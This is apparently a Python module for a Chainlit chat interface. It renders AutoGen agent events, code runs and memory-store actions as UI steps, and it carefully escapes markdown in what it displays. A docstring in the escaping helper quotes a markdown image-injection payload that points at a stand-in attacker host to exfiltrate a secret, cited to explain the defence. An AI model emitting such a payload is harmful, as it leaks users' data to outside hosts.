"""One chat session: the team of one user and thread, its run streamed as Chainlit steps.

Rendering of the AgentChat event stream:

=============================  ==================================================================
event                          shown as
=============================  ==================================================================
CodeAgent ``TextMessage``      a step named after the agent (markdown: code blocks show as code)
streaming chunks               tokens streamed into that step while the model writes
``ToolCallRequestEvent``       a ``tool`` step per call; memory tools get a "memory: recalled" marker
``ToolCallExecutionEvent``     the result, in the same step
``CodeProgressEvent``          the running step: "running python · 12 s", the last lines of output so far
``MemoryStoredEvent``          a "memory: stored" marker (tokens kept out, link to the full output)
``CodeExecutionEvent``         the same step, finished: "ran python · exit 0 in 2.1 s", the placeholder +
                               excerpt, and a link that fetches the full output from the store when clicked
``TaskResult``                 the final answer as a message (or why the run stopped)
=============================  ==================================================================
"""

from __future__ import annotations

import asyncio
import logging
import re
from collections.abc import AsyncIterator
from typing import Any

import chainlit as cl
from autogen_agentchat.base import TaskResult
from autogen_agentchat.messages import (
    BaseAgentEvent,
    BaseChatMessage,
    CodeExecutionEvent,
    ModelClientStreamingChunkEvent,
    TextMessage,
    ToolCallExecutionEvent,
    ToolCallRequestEvent,
)
from autogen_core import CancellationToken

from agent_memory import MemoryItem, MemoryNotFound, MemoryStore
from agent_memory.agents import AgentSession
from agent_memory.placeholders import parse_memory_refs
from agent_memory.tools import MEMORY_TOOL_NAMES
from chainlit_app.inspector import thread_token_stats
from chainlit_app.runtime import local_sessions, remote_agents
from chainlit_app.ui_agent_builder import UIAgentBuilder, model_setup_problem

log = logging.getLogger(__name__)

MEMORY_TOOLS = MEMORY_TOOL_NAMES
RECALL_TOOLS = MEMORY_TOOL_NAMES - {"store_memory"}  # the memory tools that read
TERMINATE_RE = re.compile(r"\s*\bTERMINATE\b\s*$")
FENCE_LANGUAGE_RE = re.compile(r"^```(\w+)", re.MULTILINE)  # the languages of the blocks the executor runs


_MARKDOWN_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~&=:@$^])")
# What GitHub-flavoured markdown turns into a link by itself (escaping its dots does not stop it): URLs with a
# scheme, www. addresses, e-mail addresses. (A pipe ends one: inside a table, even inline code cannot hold it.)
# No word boundary before them: "_www.x" links too, and Python's \b sees none after "_".
_LINKISH = re.compile(r"(?i)(?:[a-z][a-z0-9+.\-]*://|www\.)[^\s|]+|[^\s@`|]+@[^\s@`|]+\.[^\s@`|]+")


def as_text(value: str) -> str:
    """``value`` shown literally inside markdown, on one line.

    Every character markdown or HTML would act on is escaped, so a description like
    ``![x](https://evil.example/?q=secret)`` stays text instead of becoming an image; runs of whitespace (line
    breaks too) become one space, so nothing in it starts a block (a heading underline, indented code, a list, a
    directive); and what a renderer would make a link of (``https://...``, ``www.``, ``a@b.c``) is inline code,
    which is never linked.
    """
    flat = " ".join(value.split())
    parts: list[str] = []
    done = 0
    for link in _LINKISH.finditer(flat):
        parts += [_MARKDOWN_SPECIAL.sub(r"\\\1", flat[done : link.start()]), inline_code(link.group())]
        done = link.end()
    parts.append(_MARKDOWN_SPECIAL.sub(r"\\\1", flat[done:]))
    return "".join(parts)


def fenced(text: str, language: str = "text") -> str:
    """A code block that ``text`` cannot break out of: its fence is longer than any backtick run inside."""
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{language}\n{text}\n{fence}"


def tool_output(content: str) -> str:
    """A tool step's output: stored content, shown as a code block it cannot close. Chainlit's client fences a
    step's text only when it does not already start with a fence, so output beginning with one became markdown."""
    return fenced(content)


def inline_code(text: str) -> str:
    """Inline code that ``text`` cannot close early (CommonMark: a longer backtick string delimits it)."""
    text = " ".join(text.split())
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    ticks = "`" * (longest + 1)
    return f"{ticks} {text} {ticks}" if longest else f"`{text}`"


def one_line(exc: BaseException) -> str:
    """An error for people: its type and first line, as text (the traceback goes to the server log only)."""
    first = (str(exc).strip().splitlines() or [""])[0][:300]
    return as_text(f"{type(exc).__name__}: {first}" if first else type(exc).__name__)


def memories(n: int) -> str:
    """``1 memory``, ``3 memories``."""
    return f"{n:,} {'memory' if n == 1 else 'memories'}"


def content_link(key: str) -> str:
    """Markdown links that fetch a memory from the store only when clicked."""
    return f"[Open full output](/memory-api/memories/{key}/content) · [inspect](/memories?key={key})"


def _cell(text: str, limit: int = 90) -> str:
    text = " ".join(text.split())
    return as_text(text if len(text) <= limit else text[: limit - 1] + "…")


def memory_table(items: list[MemoryItem], *, scores: bool = False) -> str:
    head = "| Key | Type | Description | Tokens | Created |" + (" Score |" if scores else "")
    rule = "|---|---|---|---:|---|" + ("---:|" if scores else "")
    rows = [
        f"| `{i.memory_key}` | {_cell(i.memory_type)} | {_cell(i.description) or '—'} | {i.token_count:,} | "
        f"{i.created_at.strftime('%Y-%m-%d %H:%M')} |" + (f" {i.score:.3f} |" if scores and i.score is not None else "")
        for i in items
    ]
    return "\n".join([head, rule, *rows])


def executor_markdown(text: str, key: str | None) -> str:
    """The executor's report for people: status, placeholder, excerpt as code, link to the full output.

    The report of an offloaded output reads ``status / ... stored in memory: REF / Excerpt: / lines /
    Read more ...``; anything else is shown verbatim as text.
    """
    lines = text.split("\n")
    if key is None or "Excerpt:" not in lines:
        return fenced(text)
    at = lines.index("Excerpt:")
    end = max((i for i, line in enumerate(lines) if line.startswith("Read more with")), default=len(lines))
    refs = parse_memory_refs(text)
    ref = text[refs[0].start : refs[0].end] if refs else key
    excerpt = "\n".join(lines[at + 1 : end])
    return (
        f"**{as_text(lines[0])}**\n\nThe output went to memory; the conversation keeps {inline_code(ref)} and this "
        f"excerpt:\n\n{fenced(excerpt)}\n\n{content_link(key)}"
    )


def finished_status(report: str) -> str:
    """The executor report's first line as a short step title: "exit 0 in 2.10s", "FAILED with exit code 1"."""
    first = report.split("\n", 1)[0].split(". ", 1)[0].rstrip(".")
    return re.sub(r"^Exit code 0 \(success\)", "exit 0", first)[:80]


class ChatSession:
    """The agents, memory and state of one Chainlit session (one user, one thread)."""

    def __init__(self, *, user_id: str, thread_id: str, store: MemoryStore) -> None:
        self.user_id = user_id
        self.thread_id = thread_id
        self.store = store
        self.agents: AgentSession | None = None
        self.setup_error: str | None = None
        self._cancel: CancellationToken | None = None
        self._settled = asyncio.Event()  # clear while start() builds the team
        self._settled.set()

    async def start(self) -> None:
        """Build the team (a resumed thread gets its MemoryContext back) or explain what is missing."""
        self._settled.clear()
        try:
            await self._start()
        finally:
            self._settled.set()

    async def _start(self) -> None:
        try:
            remote = await remote_agents(self.user_id, self.thread_id)
        except Exception as exc:  # e.g. the runtime host cannot be reached: say so, run nothing here
            log.exception("could not reach the session workers")
            self.setup_error = f"The agents could not be started: {one_line(exc)}"
            await cl.Message(content=self.setup_error, author="agent-memory").send()
            return
        if remote is not None:  # the agents run on the session workers, which have the model
            self.agents = remote  # type: ignore[assignment]
            return
        problem = model_setup_problem()
        if problem is not None:
            self.setup_error = problem
            await cl.Message(content=problem, author="agent-memory").send()
            return
        try:
            builder = await UIAgentBuilder.for_session(self.store, user_id=self.user_id, thread_id=self.thread_id)
            # one machine: the team runs in a session actor on the process's in-process runtime
            self.agents = await local_sessions().open(await builder.build_session())  # type: ignore[assignment]
        except Exception as exc:  # a broken model config must not take the session down
            log.exception("could not build the team")
            self.setup_error = f"The agents could not be started: {one_line(exc)}"
            await cl.Message(content=self.setup_error, author="agent-memory").send()
            return

    # ------------------------------------------------------------------------------------------ running

    async def run(self, task: str) -> None:
        if self.agents is None:
            # Repeat why: the notice sent at chat start may have scrolled away.
            reason = self.setup_error or "The agents are not available in this session."
            await cl.Message(content=f"Your message was not run.\n\n{reason}", author="agent-memory").send()
            return
        self._cancel = CancellationToken()
        renderer = Renderer(self)
        try:
            async for event in self._stream(task):
                await renderer.render(event)
        except asyncio.CancelledError:
            # Stop button: Chainlit cancelled this task and says so; the token also kills running code.
            if self._cancel is not None:
                self._cancel.cancel()
            await renderer.close_open_steps()
            raise
        except Exception as exc:
            log.exception("run failed")
            await renderer.close_open_steps()
            await cl.Message(content=f"The run failed: {one_line(exc)}", author="agent-memory").send()
        finally:
            self._cancel = None

    async def _stream(self, task: str) -> AsyncIterator[BaseAgentEvent | BaseChatMessage | TaskResult]:
        assert self._cancel is not None and self.agents is not None
        async for event in self.agents.run_stream(task, cancellation_token=self._cancel):
            yield event

    def stop(self) -> None:
        """Cancel the running turn (Chainlit's Stop button): running code is killed with its process group."""
        if self._cancel is not None:
            self._cancel.cancel()

    async def close(self) -> None:
        self.stop()
        # The socket may close while the team is still being built: wait for it, or it would outlive the session.
        await self._settled.wait()
        if self.agents is not None:
            await self.agents.close()
            self.agents = None

    # ------------------------------------------------------------------------------------------ memory

    async def delete_memory(self, key: str) -> None:
        try:
            await self.store.delete(key, user_id=self.user_id, actor=self.user_id, surface="ui")
        except MemoryNotFound:
            await cl.Message(content=f"No memory {inline_code(key)}.", author="agent-memory").send()
            return
        await cl.Message(content=f"Deleted memory {inline_code(key)}.", author="agent-memory").send()


class Renderer:
    """Turns one run's events into Chainlit steps and messages."""

    def __init__(self, session: ChatSession) -> None:
        self.session = session
        self.streaming: dict[str, cl.Step] = {}
        self.stored: dict[str, str] = {}  # executor name -> key of the output it just stored
        self.tool_steps: dict[str, cl.Step] = {}
        self.last_text: str | None = None
        self.last_text_step: cl.Step | None = None
        self.last_author: str | None = None
        self.last_executor_text: str | None = None
        self.running: dict[str, cl.Step] = {}  # executor name -> its step while code runs

    async def close_open_steps(self) -> None:
        for step in [*self.streaming.values(), *self.tool_steps.values(), *self.running.values()]:
            await step.__aexit__(None, None, None)
        self.streaming.clear()
        self.tool_steps.clear()
        self.running.clear()

    async def render(self, event: BaseAgentEvent | BaseChatMessage | TaskResult) -> None:
        if isinstance(event, TaskResult):
            await self.finish(event)
        elif isinstance(event, ModelClientStreamingChunkEvent):
            step = self.streaming.get(event.source)
            if step is None:
                step = cl.Step(name=event.source, type="llm", default_open=True)
                await step.__aenter__()
                self.streaming[event.source] = step
            await step.stream_token(event.content)
        elif getattr(event, "type", "") == "CodeProgressEvent":
            await self.code_progress(event)
        elif getattr(event, "type", "") == "MemoryStoredEvent":
            await self.memory_stored(event)
        elif isinstance(event, CodeExecutionEvent):
            await self.code_executed(event)
        elif isinstance(event, ToolCallRequestEvent):
            await self.tool_requested(event)
        elif isinstance(event, ToolCallExecutionEvent):
            await self.tool_executed(event)
        elif isinstance(event, TextMessage):
            await self.text(event)
        elif getattr(event, "type", "") == "MemoryContextEvent":
            await self.context_event(event)

    async def text(self, message: TextMessage) -> None:
        if message.source == "user":
            return
        if message.content == self.last_executor_text:
            return  # the executor's chat message repeats its CodeExecutionEvent, already shown
        self.last_text = message.content
        step = self.streaming.pop(message.source, None)
        if step is not None:  # streamed: the step already holds the text; set the final form
            step.output = message.content
            await step.__aexit__(None, None, None)
        else:
            step = cl.Step(name=message.source, type="llm", default_open=True)
            async with step:
                step.output = message.content
        self.last_text_step = step
        self.last_author = message.source

    async def memory_stored(self, event: Any) -> None:
        self.stored[event.source] = event.memory_key
        async with cl.Step(name=f"memory: stored {event.memory_key}", type="tool", icon="brain") as step:
            step.output = (  # the placeholder itself is shown once, in the executor's step
                f"{event.token_count:,} tokens of {as_text(event.memory_type)} went to memory, out of the "
                f"context.\n\n{content_link(event.memory_key)}"
            )

    async def code_progress(self, event: Any) -> None:
        """Code still runs: its step shows the time so far and the last lines of output, updated in place."""
        step = self.running.get(event.source)
        if step is None:
            step = cl.Step(name=event.source, type="tool", icon="terminal", default_open=True)
            await step.__aenter__()
            self.running[event.source] = step
        elapsed = f"{event.elapsed_s:.1f}" if event.elapsed_s < 10 else f"{event.elapsed_s:.0f}"
        step.name = f"running {'/'.join(event.languages) or 'code'} · {elapsed} s"
        tail = fenced(event.tail) if event.tail else "(no output yet)"
        step.output = f"{event.output_bytes:,} bytes of output so far; the last lines:\n\n{tail}"
        await step.update()

    async def code_executed(self, event: CodeExecutionEvent) -> None:
        text = event.result.output
        self.last_executor_text = text
        key = self.stored.pop(event.source, None)
        if key is None:
            refs = parse_memory_refs(text)
            key = refs[0].key if refs else None
        languages = "/".join(dict.fromkeys(FENCE_LANGUAGE_RE.findall(self.last_text or ""))) or "code"
        step = self.running.pop(event.source, None)
        if step is None:
            step = cl.Step(name=event.source, type="tool", icon="terminal", default_open=True)
            await step.__aenter__()
        step.name = f"ran {languages} · {finished_status(text)}"
        step.is_error = not text.startswith("Exit code 0")
        step.output = executor_markdown(text, key)
        await step.__aexit__(None, None, None)

    async def tool_requested(self, event: ToolCallRequestEvent) -> None:
        streamed = self.streaming.pop(event.source, None)
        if streamed is not None:
            await streamed.__aexit__(None, None, None)
        for call in event.content:
            recall = call.name in RECALL_TOOLS
            name = f"memory: recalled with {call.name}" if recall else call.name
            step = cl.Step(name=name, type="tool", icon="brain" if call.name in MEMORY_TOOLS else None)
            step.language = "json"
            step.input = call.arguments
            await step.__aenter__()
            self.tool_steps[call.id] = step

    async def tool_executed(self, event: ToolCallExecutionEvent) -> None:
        for result in event.content:
            step = self.tool_steps.pop(result.call_id, None)
            if step is None:
                step = cl.Step(name=result.name, type="tool")
                await step.__aenter__()
            step.language = "text"
            step.is_error = bool(result.is_error)
            step.output = tool_output(result.content)
            await step.__aexit__(None, None, None)

    async def context_event(self, event: Any) -> None:
        """What the CodeAgent's MemoryContext did: stored a big message, expanded or recalled memories."""
        keys = ", ".join(event.memory_keys) or "-"
        if event.action == "stored":
            name, text = (
                f"memory: stored {keys}",
                f"Kept out of the context, in memory: {as_text(event.detail or keys)}",
            )
        elif event.action == "expanded":
            name, text = f"memory: expanded {keys}", "Your message refers to it: the relevant part is in context."
        else:
            name, text = f"memory: recalled {keys}", "Your memories that may answer this request are in context."
        async with cl.Step(name=name, type="tool", icon="brain") as step:
            step.output = text + "".join(f"\n\n{content_link(k)}" for k in event.memory_keys[:3])

    async def finish(self, result: TaskResult) -> None:
        await self.close_open_steps()
        answer = TERMINATE_RE.sub("", self.last_text or "").strip()
        if answer:
            if self.last_text_step is not None:  # the last turn becomes the answer message, not a step
                await self.last_text_step.remove()
            await cl.Message(content=answer, author=self.last_author or "assistant").send()
        elif result.stop_reason:
            await cl.Message(content=f"Run ended: {result.stop_reason}", author="agent-memory").send()


# ---------------------------------------------------------------------------------------------- commands


async def memory_overview(session: ChatSession) -> None:
    """The ``Memories`` command: this thread's memories, token savings, and the inspector link."""
    items = await session.store.list(user_id=session.user_id, thread_id=session.thread_id, limit=50)
    stats = await thread_token_stats(session.user_id, session.thread_id)
    total = await session.store.stats(user_id=session.user_id)
    lines = [
        f"**Memory in this thread:** {memories(stats['memories'])}, {stats['stored_tokens']:,} tokens stored. "
        f"The context carries {stats['placeholder_tokens']:,} tokens of placeholders instead: "
        f"**memory kept {stats['kept_out_tokens']:,} tokens out of the context.**",
        f"All your memories: {total.total_memories} ({total.total_tokens:,} tokens). "
        f"[Open the memory inspector](/memories?thread={session.thread_id})",
    ]
    if items:
        lines += ["", memory_table(items)]
    actions = [
        cl.Action(name="delete_memory", payload={"key": i.memory_key}, label=f"Delete {i.memory_key}", icon="trash")
        for i in items[:10]
    ]
    await cl.Message(content="\n".join(lines), author="memory", actions=actions).send()


async def search_overview(session: ChatSession, query: str) -> None:
    """The ``Search`` command: the user's memories that best match ``query``."""
    if not query.strip():
        await cl.Message(content="Type what to search for after choosing **Search**.", author="memory").send()
        return
    items = await session.store.search(query, user_id=session.user_id, limit=10)
    if not items:
        await cl.Message(content=f"No memory matches “{as_text(query)}”.", author="memory").send()
        return
    verb = "matches" if len(items) == 1 else "match"
    await cl.Message(
        content=f"**{memories(len(items))} {verb} “{as_text(query)}”** (best first):\n\n"
        + memory_table(items, scores=True),
        author="memory",
    ).send()
